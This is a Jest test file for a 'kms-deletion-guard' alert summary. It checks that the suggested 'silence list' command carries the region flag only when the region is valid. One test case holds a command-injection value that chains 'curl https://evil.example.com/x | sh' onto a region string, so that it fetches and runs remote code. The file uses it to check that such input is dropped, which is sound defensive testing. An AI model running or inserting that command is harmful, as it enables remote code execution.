import { describe, expect, it } from '@jest/globals';
import type { SummaryAlert } from '../../shared/alert/alert.ts';
import { silencesAdvice } from '../../shared/alert/summary-words.ts';
import { STORIES } from './stories.ts';

const weekly = STORIES['hidden-of-the-week']?.() as SummaryAlert;

describe('the command that lists silences', () => {
  it.each([
    ['eu-west-1', 'kms-deletion-guard silence list --region eu-west-1'],
    [undefined, 'kms-deletion-guard silence list'],
    // Whoever may publish to the topic may publish this.
    ['eu-west-1; curl https://evil.example.com/x | sh', 'kms-deletion-guard silence list'],
  ])('names the Region of the guard where it is one: %j', (region, command) => {
    const { region: _, ...guard } = weekly.guard;
    const told = { ...weekly, guard: region === undefined ? guard : { ...guard, region } };
    expect(silencesAdvice(told).command).toBe(command);
  });
});
